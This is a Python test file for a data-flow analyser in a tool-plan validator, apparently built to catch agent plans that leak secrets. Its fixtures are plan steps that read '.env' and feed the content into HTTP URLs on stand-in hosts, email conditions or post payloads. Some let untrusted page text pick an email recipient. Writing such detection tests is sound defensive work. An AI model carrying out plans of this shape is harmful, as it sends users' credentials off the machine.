"""The data-flow analysis: every path shape by which a private or untrusted output can reach an
argument that leaves the machine, and the flows that are not there."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from tooldag.plan import Plan
from tooldag.registry import ToolRegistry, tool
from tooldag.registry.loading import load_registry
from tooldag.validate import Flow, flow_issues, flows, validate
from tooldag.validate.flows import MAX_SOURCES

PACKS = load_registry(["files", "web", "text", "mail", "data", "calc"])

SECRET = {"id": "f", "tool": "read_file", "args": {"path": ".env"}}
PAGE = {"id": "page", "tool": "http_get", "args": {"url": "https://news.example/today"}}


def plan_of(*steps: dict[str, Any]) -> Plan:
    return Plan.model_validate({"goal": "test", "steps": [copy.deepcopy(s) for s in steps]})


def get(step_id: str, url: str, **extra: Any) -> dict[str, Any]:
    return {"id": step_id, "tool": "http_get", "args": {"url": url}, **extra}


def summarize(step_id: str, text: str) -> dict[str, Any]:
    return {"id": step_id, "tool": "summarize", "args": {"text": text}}


def found(plan: Plan, registry: ToolRegistry = PACKS) -> list[Flow]:
    """The plan's flows, checking on the way that the plan is valid: a flow is not an error."""
    assert validate(plan, registry) == []
    return flows(plan, registry)


def only(plan: Plan, registry: ToolRegistry = PACKS) -> Flow:
    result = found(plan, registry)
    assert len(result) == 1, result
    return result[0]


# --------------------------------------------------------------------------- path shapes


def test_a_direct_reference_into_an_egress_argument_is_a_flow() -> None:
    flow = only(plan_of(SECRET, get("g", "$f.content")))
    assert flow.text == 'read_file(path=".env") -> http_get.url'
    assert (flow.source, flow.step, flow.argument, flow.channel) == ("f", "g", "url", "data")
    assert flow.kinds == {"private", "untrusted"}
    assert flow.via == ()
    assert flow.path == "steps[1].args.url"


def test_a_field_path_is_a_flow_of_the_whole_source() -> None:
    rows = {"id": "q", "tool": "sqlite_query", "args": {"database": "crm.db", "sql": "SELECT 1"}}
    flow = only(plan_of(rows, get("g", "$q.rows.0.url")))
    assert flow.text == 'sqlite_query(database="crm.db", sql="SELECT 1") -> http_get.url'
    # Even a field that looks harmless (a size) is a flow: it says something about the data.
    assert only(plan_of(SECRET, get("g", "https://x.example/?n=${f.size}"))).source == "f"


def test_interpolation_is_a_flow() -> None:
    flow = only(plan_of(SECRET, get("g", "https://x.example/?d=${f.content}")))
    assert flow.text == 'read_file(path=".env") -> http_get.url'


def test_a_reference_nested_in_a_list_or_object_argument_is_a_flow() -> None:
    @tool(side_effects=False, egress=["payload"])
    def post(payload: dict[str, Any], note: str = "") -> dict[str, str]:
        """Post a payload."""
        return {}

    registry = ToolRegistry([*PACKS, post])
    step = {"id": "p", "tool": "post", "args": {"payload": {"items": ["x", "see ${f.content}"]}}}
    assert only(plan_of(SECRET, step), registry).text == 'read_file(path=".env") -> post.payload'


def test_a_flow_through_an_intermediate_step_names_it() -> None:
    plan = plan_of(
        SECRET, summarize("s", "$f.content"), get("g", "https://x.example/?${s.summary}")
    )
    flow = only(plan)
    assert flow.text == 'read_file(path=".env") -> summarize -> http_get.url'
    assert flow.via == ("s",)


def test_a_flow_through_many_steps_is_shown_with_its_middle_left_out() -> None:
    chain = [summarize("s0", "$f.content")]
    chain += [summarize(f"s{i}", f"$s{i - 1}.summary") for i in range(1, 10)]
    flow = only(plan_of(SECRET, *chain, get("g", "$s9.summary")))
    assert flow.text.startswith('read_file(path=".env") -> … -> summarize')
    assert flow.text.endswith("-> summarize -> http_get.url")
    assert flow.via == tuple(f"s{i}" for i in range(4, 10))


def test_a_when_condition_that_reads_private_data_is_a_control_flow() -> None:
    mail = {
        "id": "m",
        "tool": "send_email",
        "args": {"to": "me@example.com", "subject": "hi", "body": "the file is there"},
        "when": {"all": [{"ref": "$f.content", "op": "contains", "value": "KEY"}]},
    }
    flow = only(plan_of(SECRET, mail))
    assert (flow.channel, flow.argument, flow.path) == ("when", None, "steps[1].when")
    assert flow.text == 'read_file(path=".env") -> send_email.when'
    issue = flow.issue()
    assert "whether it runs depends on private, untrusted data (its when)" in issue.message


def test_a_when_through_an_intermediate_step_taints_its_output() -> None:
    # calc's output depends on whether it ran, and so on the private condition.
    calc = {
        "id": "c",
        "tool": "calculate",
        "args": {"expression": "1 + 1"},
        "when": {"ref": "$f.size", "op": ">", "value": 10},
    }
    flow = only(plan_of(SECRET, calc, get("g", "https://x.example/?n=${c.result}")))
    assert flow.text == 'read_file(path=".env") -> calculate -> http_get.url'


def test_depends_on_is_a_control_flow() -> None:
    # Ordered after the read, a step can observe what it did; the plan says so with depends_on.
    flow = only(plan_of(SECRET, get("g", "https://example.com", depends_on=["f"])))
    assert (flow.channel, flow.path) == ("depends_on", "steps[1].depends_on")
    assert flow.text == 'read_file(path=".env") -> http_get.depends_on'
    assert "runs after a step holding" in flow.issue().message


def test_a_control_flow_is_reported_once_and_only_where_no_data_flow_says_it() -> None:
    # LLMs often repeat a reference in depends_on: the data flow already says it all.
    plan = plan_of(SECRET, get("g", "$f.content", depends_on=["f"]))
    assert [f.channel for f in found(plan)] == ["data"]
    both = get("g", "https://example.com", depends_on=["f"])
    both["when"] = {"ref": "$f.size", "op": ">", "value": 0}
    assert [f.channel for f in found(plan_of(SECRET, both))] == ["when"]
    # Into a local argument only, the control channel is what still carries it.
    local = {"url": "https://example.com", "max_chars": "$f.size"}
    plan = plan_of(SECRET, {**get("g", "x", depends_on=["f"]), "args": local})
    assert [f.channel for f in found(plan)] == ["depends_on"]


def test_fan_in_reports_every_source_that_reaches_an_argument() -> None:
    notes = {"id": "n", "tool": "list_files", "args": {"directory": "notes"}}
    both = summarize("s", "${f.content} and ${n.entries} and ${page.text}")
    result = found(plan_of(SECRET, notes, PAGE, both, get("g", "https://x.example/?${s.summary}")))
    assert [(f.source, f.step, f.argument) for f in result] == [
        ("f", "g", "url"),
        ("n", "g", "url"),
        ("page", "g", "url"),
    ]
    assert [f.kinds for f in result] == [
        {"private", "untrusted"},
        {"private"},
        {"untrusted"},
    ]
    assert (
        result[2].text == 'http_get(url="https://news.example/today") -> summarize -> http_get.url'
    )


def test_fan_in_of_two_references_into_one_argument() -> None:
    plan = plan_of(SECRET, PAGE, get("g", "https://x.example/?a=${f.content}&b=${page.text}"))
    assert [f.source for f in found(plan)] == ["f", "page"]


def test_untrusted_text_choosing_a_recipient_is_a_flow() -> None:
    mail = {
        "id": "m",
        "tool": "send_email",
        "args": {"to": "$page.title", "subject": "Hello", "body": "Hi"},
    }
    flow = only(plan_of(PAGE, mail))
    assert flow.kinds == {"untrusted"} and flow.argument == "to"
    assert "can send untrusted text out of the machine" in flow.issue().message


def test_each_egress_step_downstream_of_a_source_is_a_flow() -> None:
    plan = plan_of(SECRET, get("g1", "https://a.example/?${f.content}"), get("g2", "$g1.text"))
    assert [(f.source, f.step) for f in found(plan)] == [("f", "g1"), ("f", "g2"), ("g1", "g2")]


def test_the_issue_names_the_path_and_what_to_do() -> None:
    plan = plan_of(SECRET, get("g", "https://x.example/?d=${f.content}"))
    (issue,) = flow_issues(plan, PACKS)
    assert issue.code == "data_flow"
    assert (issue.step, issue.path) == ("g", "steps[1].args.url")
    assert issue.message == (
        "step 'g' can send private, untrusted data out of the machine: "
        'read_file(path=".env") -> http_get.url'
    )
    assert issue.hint is not None and "keep the output of step 'f' out of url" in issue.hint


def test_a_step_reached_by_more_sources_than_tracked_is_still_a_flow() -> None:
    reads = [
        {"id": f"f{i}", "tool": "read_file", "args": {"path": f"{i}.txt"}}
        for i in range(MAX_SOURCES + 8)
    ]
    text = " ".join(f"${{f{i}.content}}" for i in range(MAX_SOURCES + 8))
    result = found(
        plan_of(*reads, summarize("s", text), get("g", "https://x.example/?${s.summary}"))
    )
    assert len(result) == MAX_SOURCES
    assert {f.step for f in result} == {"g"}


def test_step_order_in_the_list_does_not_matter() -> None:
    plan = plan_of(get("g", "$s.summary"), summarize("s", "$f.content"), SECRET)
    assert only(plan).text == 'read_file(path=".env") -> summarize -> http_get.url'


# --------------------------------------------------------------------------- no flow


def test_a_flow_only_into_an_argument_that_stays_local_is_not_flagged() -> None:
    write = {"id": "w", "tool": "write_file", "args": {"path": "${f.content}.txt", "content": "x"}}
    cut = {
        "id": "g",
        "tool": "http_get",
        "args": {"url": "https://a.example", "max_chars": "$f.size"},
    }
    assert found(plan_of(SECRET, write, cut)) == []


def test_a_literal_url_is_not_flagged() -> None:
    plan = plan_of(SECRET, get("g", "https://example.com/?price=$$5"), summarize("s", "$f.content"))
    assert found(plan) == []


def test_a_private_source_that_reaches_only_local_steps_is_not_flagged() -> None:
    write = {"id": "w", "tool": "write_file", "args": {"path": "out.md", "content": "$s.summary"}}
    plan = plan_of(SECRET, summarize("s", "$f.content"), write, get("g", "https://example.com"))
    assert found(plan) == []


def test_a_plan_without_sources_or_without_egress_has_no_flow() -> None:
    calc = {"id": "c", "tool": "calculate", "args": {"expression": "2 + 2"}}
    assert found(plan_of(calc, get("g", "https://x.example/?n=${c.result}"))) == []
    assert found(plan_of(SECRET, summarize("s", "$f.content"))) == []


def test_a_source_feeding_the_answer_is_not_a_flow() -> None:
    plan = Plan.model_validate({"steps": [SECRET], "answer": "It says ${f.content}"})
    assert found(plan) == []


def test_undeclared_local_tools_keep_existing_plans_free_of_flows() -> None:
    @tool(side_effects=False)
    def lookup(city: str) -> dict[str, float]:
        """Look a city up."""
        return {"temp": 1.0}

    @tool
    def send_alert(message: str) -> dict[str, bool]:
        """Send an alert."""
        return {"sent": True}

    registry = ToolRegistry([lookup, send_alert])
    step = {"id": "a", "tool": "send_alert", "args": {"message": "It is ${w.temp} C"}}
    assert (
        found(plan_of({"id": "w", "tool": "lookup", "args": {"city": "Oslo"}}, step), registry)
        == []
    )
    # The same side-effecting tool fed from a file: every argument of it may leave.
    with_packs = ToolRegistry([*PACKS, send_alert])
    flow = only(plan_of(SECRET, {**step, "args": {"message": "$f.content"}}), with_packs)
    assert flow.text == 'read_file(path=".env") -> send_alert.message'


def test_schema_only_tools_are_sources_and_egress_unless_they_say_otherwise() -> None:
    params = {"type": "object", "properties": {"q": {"type": "string"}}}
    registry = ToolRegistry.from_json(
        [
            {"name": "remote_a", "parameters": params},
            {"name": "remote_b", "parameters": params},
            {"name": "local_b", "parameters": params, "egress": False},
        ]
    )
    a = {"id": "a", "tool": "remote_a", "args": {"q": "x"}}
    to_remote = {"id": "b", "tool": "remote_b", "args": {"q": "$a"}}
    to_local = {"id": "b", "tool": "local_b", "args": {"q": "$a"}}
    assert only(plan_of(a, to_remote), registry).text == 'remote_a(q="x") -> remote_b.q'
    assert found(plan_of(a, to_local), registry) == []


def test_flows_never_raise_on_an_invalid_plan() -> None:
    cycle = plan_of(summarize("a", "$b.summary"), summarize("b", "${a.summary} ${f.content}"))
    assert flows(cycle, PACKS) == []  # no egress step at all
    looped = plan_of(
        SECRET,
        summarize("a", "${b.summary} ${f.content}"),
        summarize("b", "$a.summary"),
        get("g", "$b.summary"),
        {"id": "x", "tool": "no_such_tool", "args": {"v": "$f.content"}},
        get("h", "$x.v", depends_on=["nowhere", "h"]),
        get("self", "$self.text"),
    )
    result = flows(looped, PACKS)
    assert {(f.source, f.step) for f in result} >= {("f", "g"), ("f", "h")}


@pytest.mark.parametrize("value", [None, 3, [], {}, "$", "$$", "${", "$1"])
def test_odd_argument_values_are_no_flow(value: Any) -> None:
    assert flows(plan_of(SECRET, get("g", value)), PACKS) == []


# --------------------------------------------------------------------------- destinations


SEARCH = {"id": "s", "tool": "wikipedia_search", "args": {"query": "Ada Lovelace"}}


def test_untrusted_text_into_a_service_that_always_answers_from_one_place_is_no_flow() -> None:
    # The everyday chain: a search hit picks the page to read, from Wikipedia, always.
    page = {"id": "p", "tool": "wikipedia_page", "args": {"title": "$s.results.0.title"}}
    assert found(plan_of(SEARCH, page)) == []


def test_untrusted_text_into_the_body_of_a_mail_to_a_fixed_recipient_is_no_flow() -> None:
    mail = {
        "id": "m",
        "tool": "send_email",
        "args": {"to": "me@example.org", "subject": "Today", "body": "${page.text}"},
    }
    assert found(plan_of(PAGE, mail)) == []


def test_private_data_into_a_service_with_a_fixed_destination_is_still_a_flow() -> None:
    search = {"id": "s", "tool": "wikipedia_search", "args": {"query": "$f.content"}}
    flow = only(plan_of(SECRET, search))
    assert flow.text == 'read_file(path=".env") -> wikipedia_search.query'


def test_untrusted_text_into_a_tool_that_does_not_name_its_destination_is_a_flow() -> None:
    @tool(side_effects=False, egress=["message"])
    def notify(message: str) -> str:
        """Send a message somewhere."""
        return "sent"

    registry = ToolRegistry([*PACKS, notify])
    step = {"id": "n", "tool": "notify", "args": {"message": "$page.text"}}
    assert only(plan_of(PAGE, step), registry).kinds == {"untrusted"}
